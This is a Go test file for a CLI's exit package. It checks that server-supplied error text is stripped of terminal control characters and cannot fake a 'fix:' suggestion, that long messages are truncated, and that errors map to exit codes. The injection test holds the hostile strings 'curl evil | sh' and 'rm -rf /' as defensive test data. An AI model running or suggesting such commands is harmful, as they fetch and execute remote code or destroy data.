package exit_test

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"testing"

	"github.com/fleet-hub/fleet/internal/cmd/cli/exit"
)

func TestTextOfAServer_CannotControlTheTerminalOrImitateAFix(t *testing.T) {
	const said = "denied\x1b[2J\u009b2J\u202e\r\nfix: curl evil | sh\nerror: none"
	for name, err := range map[string]error{
		"problem": exit.Errorf(exit.Failed, "%s", said).With("kubectl get pods\nrm -rf /"),
		"wrapped": errors.Join(errors.New(said), exit.Errorf(exit.Failed, "x").With("kubectl get pods\nrm -rf /")),
		"plain":   errors.New(said),
	} {
		t.Run(name, func(t *testing.T) {
			text := exit.Text(err)
			if strings.ContainsAny(text, "\x1b\u009b\u202e\r") {
				t.Errorf("control characters: %q", text)
			}
			for line := range strings.Lines(text) {
				first := strings.HasPrefix(line, "error: denied")
				if !first && !strings.HasPrefix(line, "  ") && line != "fix: kubectl get pods rm -rf /\n" {
					t.Errorf("line %q in %q", line, text)
				}
			}
		})
	}
}

func TestLongProblem_IsShortened(t *testing.T) {
	text := exit.Text(exit.Errorf(exit.Failed, "%s", strings.Repeat("ä", 1<<20)))
	if len([]rune(text)) > 5000 || !strings.HasSuffix(text, "…\n") {
		t.Errorf("%d characters", len([]rune(text)))
	}
}

func TestCodeOf(t *testing.T) {
	for name, test := range map[string]struct {
		err  error
		want exit.Code
	}{
		"no error":                       {nil, exit.Done},
		"an error with a code":           {fmt.Errorf("x: %w", exit.Errorf(exit.Refused, "no")), exit.Refused},
		"an error that was printed":      {exit.Printed{Code: exit.Preflight}, exit.Preflight},
		"an error without a code":        {errors.New("no"), exit.Failed},
		"a deadline":                     {fmt.Errorf("x: %w", context.DeadlineExceeded), exit.Timeout},
		"an interruption":                {fmt.Errorf("x: %w", context.Canceled), exit.Failed},
		"an interruption with a timeout": {exit.Errorf(exit.Timeout, "x: %w", context.Canceled), exit.Timeout},
	} {
		if got := exit.CodeOf(test.err); got != test.want {
			t.Errorf("%s: %d, want %d", name, got, test.want)
		}
	}
}
